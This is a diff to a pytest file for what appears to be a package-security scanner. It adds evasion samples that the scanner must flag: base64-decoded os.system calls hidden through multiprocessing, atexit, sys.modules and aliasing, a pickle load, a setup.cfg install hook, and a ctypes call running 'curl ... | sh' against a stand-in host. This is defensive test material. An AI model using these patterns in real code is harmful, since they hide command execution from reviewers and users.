@@ -334,6 +334,64 @@ WINDOWS_AND_CLONES = (
     ),
 )
 
+LOOKUPS_AND_HANDOFFS = (
+    Technique(
+        "process-passed-as-a-target",
+        "import os, base64, multiprocessing\n"
+        f"cmd = base64.b64decode('{_HARMLESS_COMMAND}')\n"
+        "multiprocessing.Process(target=os.system, args=(cmd,)).start()\n",
+        Severity.CRITICAL,
+    ),
+    Technique(
+        "exec-registered-at-exit",
+        "import atexit, base64\n"
+        f"atexit.register(exec, base64.b64decode('{_HARMLESS}'))\n",
+        Severity.CRITICAL,
+    ),
+    Technique(
+        "module-from-sys-modules",
+        "import sys, base64\nimport os\n"
+        f"sys.modules['os'].system(base64.b64decode('{_HARMLESS_COMMAND}'))\n",
+        Severity.CRITICAL,
+    ),
+    Technique(
+        "alias-through-a-tuple",
+        "import os, base64\nrun, n = os.system, 1\n"
+        f"run(base64.b64decode('{_HARMLESS_COMMAND}'))\n",
+        Severity.CRITICAL,
+    ),
+    Technique(
+        "alias-through-a-default",
+        "import os, base64\n"
+        "def go(data, run=os.system):\n    run(base64.b64decode(data))\n"
+        f"go('{_HARMLESS_COMMAND}')\n",
+        Severity.CRITICAL,
+    ),
+    Technique(
+        "libc-system-through-ctypes",
+        "import ctypes\nctypes.CDLL(None).system(b'curl -s https://example.invalid/i | sh')\n",
+        Severity.CRITICAL,
+    ),
+    Technique(
+        "pickle-of-embedded-data",
+        "import pickle\nstate = pickle.loads(b'\\x80\\x04K\\x01.')\n",
+        Severity.CRITICAL,
+    ),
+    Technique(
+        "cmdclass-named-in-setup-cfg",
+        "",
+        Severity.CRITICAL,
+        {
+            "setup.cfg": "[metadata]\nname = demo\n[options]\ncmdclass =\n"
+            "    install = demo_build.hooks.Install\n",
+            "demo_build/__init__.py": "",
+            "demo_build/hooks.py": "from setuptools.command.install import install\n"
+            "class Install(install):\n    def run(self):\n"
+            "        " + _RUN_DECODED.replace("\n", "\n        ").rstrip() + "\n",
+        },
+    ),
+)
+
 ORDINARY = (
     Technique(
         "compiler-probe-in-temp-folder",
@@ -424,7 +482,7 @@ def _scan(technique: Technique, tmp_path: Path) -> list[Finding]:
 
 @pytest.mark.parametrize(
     "technique",
-    TECHNIQUES + MORE_TECHNIQUES + CAPABILITIES + WINDOWS_AND_CLONES,
+    TECHNIQUES + MORE_TECHNIQUES + CAPABILITIES + WINDOWS_AND_CLONES + LOOKUPS_AND_HANDOFFS,
     ids=lambda t: t.name,
 )
 def test_technique_is_blocked(technique: Technique, tmp_path: Path) -> None:
